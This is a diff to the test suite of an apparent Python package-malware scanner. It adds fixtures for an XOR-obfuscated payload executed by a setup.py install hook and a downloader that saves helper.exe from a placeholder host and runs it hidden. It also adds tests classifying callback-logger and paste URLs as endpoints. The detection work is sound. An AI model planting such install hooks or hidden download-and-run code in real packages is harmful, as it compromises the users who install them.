@@ -346,6 +346,29 @@ MORE_TECHNIQUES = [
         "suspicious-endpoint.webhook",
     ),
     (
+        "xor-decrypted-code-compiled-by-an-install-command",
+        "setup.py",
+        "from setuptools import setup\nfrom setuptools.command.install import install\n"
+        "class I(install):\n    def run(self):\n"
+        "        w, k, out = ']]E]JE', '40528', ''\n"
+        "        for i in range(len(w)):\n"
+        "            out += chr(ord(w[i]) ^ ord(k[i % len(k)]))\n"
+        "        eval(compile(out, '<string>', 'exec'))\n"
+        "setup(name='p', cmdclass={'install': I})\n",
+        "obfuscation.exec-decoded",
+    ),
+    (
+        "downloaded-program-started-hidden",
+        "p/update.py",
+        "import os, subprocess, requests\n"
+        "def update():\n"
+        "    r = requests.get('https://files.example.invalid/u/helper.exe')\n"
+        "    path = os.path.join(os.environ['USERPROFILE'], 'helper.exe')\n"
+        "    with open(path, 'wb') as f:\n        f.write(r.content)\n"
+        "    subprocess.Popen(path, creationflags=subprocess.CREATE_NO_WINDOW)\n",
+        "download-execute.drop-and-run",
+    ),
+    (
         "pyarmor-code-run-by-an-install-command",
         "setup.py",
         "from setuptools import setup\nfrom setuptools.command.install import install\n"
@@ -443,3 +466,24 @@ def test_setup_py_installing_its_requirements_file_is_not_a_second_stage(tmp_pat
     assert verdict == "clean"
     verdict, _ = _scan_sdist(tmp_path, {"setup.py": head + named + "setup(name='p')\n"})
     assert verdict == "suspicious"
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://x1y2.oastify.com/ping",
+        "https://iplogger.com/2AbCd",
+        "https://paste.example.invalid/raw/abc",
+        "https://notes.example.invalid/paste/abc/raw",
+    ],
+)
+def test_callback_loggers_and_self_hosted_pastes_are_endpoints(url: str) -> None:
+    from pipwarden.scan.patterns import endpoint
+
+    assert endpoint(url) is not None
+
+
+def test_ordinary_paste_words_are_not_endpoints() -> None:
+    from pipwarden.scan.patterns import endpoint
+
+    assert endpoint("https://docs.example.invalid/copy-paste-guide") is None
